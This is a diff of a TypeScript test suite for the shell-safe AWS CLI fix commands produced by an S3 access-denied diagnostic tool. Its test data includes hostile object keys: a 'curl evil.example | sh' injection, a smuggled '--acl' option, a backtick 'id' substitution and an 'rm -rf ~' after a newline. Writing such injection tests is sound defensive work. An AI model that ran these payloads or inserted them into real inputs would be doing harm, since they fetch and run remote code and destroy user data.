@@ -14,8 +14,50 @@ describe('shellQuote', () => {
 });
 
 describe('fixes', () => {
-  it('quote an attacker-controlled key inside the command', () => {
-    const key = "x'; curl evil.example | sh; echo '";
+  /** What the AWS CLI would receive if a person pasted the command: `aws` replaced by a function that prints its argv. */
+  function argvOfPasted(command: string, env: Record<string, string> = {}): string[] {
+    const script = `aws() { printf '%s\\0' "$@"; }; ${command}`;
+    return execFileSync('bash', ['-c', script], { env: { PATH: process.env.PATH ?? '', ...env } })
+      .toString()
+      .split('\0')
+      .slice(0, -1);
+  }
+
+  const requireAcl = policy({
+    Sid: 'Acl',
+    Effect: 'Deny',
+    Principal: '*',
+    Action: 's3:PutObject',
+    Resource: '*',
+    Condition: { StringNotEquals: { 's3:x-amz-acl': 'bucket-owner-full-control' } },
+  });
+
+  it.each([
+    ['a shell injection', "x'; curl evil.example | sh; echo '"],
+    ['a leading dash that would read as an option', '--acl=public-read-write'],
+    ['a redirection and a variable', '<in >out $HOME `id`'],
+    ['a newline', 'daily/\nrm -rf ~'],
+  ])('paste safely with %s in the object key: the CLI gets exactly the key, as the value of --key', (_name, key) => {
+    const request = parseEvent(s3Record({}, { key })).requests[0]!;
+    const fix = diagnose(request, snapshot({}, { policy: requireAcl })).fixes[0]!;
+    expect(argvOfPasted(fix.command!, { FILE: 'clip.mp4' })).toEqual([
+      's3api',
+      'put-object',
+      `--bucket=${BUCKET}`,
+      `--key=${key}`,
+      '--body=clip.mp4',
+      '--acl=bucket-owner-full-control',
+    ]);
+  });
+
+  it('ask for the file to upload through a variable the shell insists on, never a <file> redirection', () => {
+    const request = parseEvent(s3Record()).requests[0]!;
+    const command = diagnose(request, snapshot({}, { policy: requireAcl })).fixes[0]!.command!;
+    expect(command).not.toMatch(/<\w+>/);
+    expect(() => argvOfPasted(command)).toThrow(/set FILE to the file to upload/);
+  });
+
+  it('still name the bucket owner for a missing encryption header', () => {
     const requireSse = policy({
       Sid: 'Sse',
       Effect: 'Deny',
@@ -24,19 +66,7 @@ describe('fixes', () => {
       Resource: '*',
       Condition: { Null: { 's3:x-amz-server-side-encryption': 'true' } },
     });
-    const requireAcl = policy({
-      Sid: 'Acl',
-      Effect: 'Deny',
-      Principal: '*',
-      Action: 's3:PutObject',
-      Resource: '*',
-      Condition: { StringNotEquals: { 's3:x-amz-acl': 'bucket-owner-full-control' } },
-    });
-    const request = parseEvent(s3Record({}, { key })).requests[0]!;
-    const fix = diagnose(request, snapshot({}, { policy: requireAcl })).fixes[0]!;
-    expect(fix.command).toBe(
-      `aws s3api put-object --bucket ${BUCKET} --key 'x'"'"'; curl evil.example | sh; echo '"'"'' --body <file> --acl bucket-owner-full-control`,
-    );
+    const request = parseEvent(s3Record()).requests[0]!;
     expect(diagnose(request, snapshot({}, { policy: requireSse })).fixes[0]?.owner).toBe('bucket-owner');
   });
 
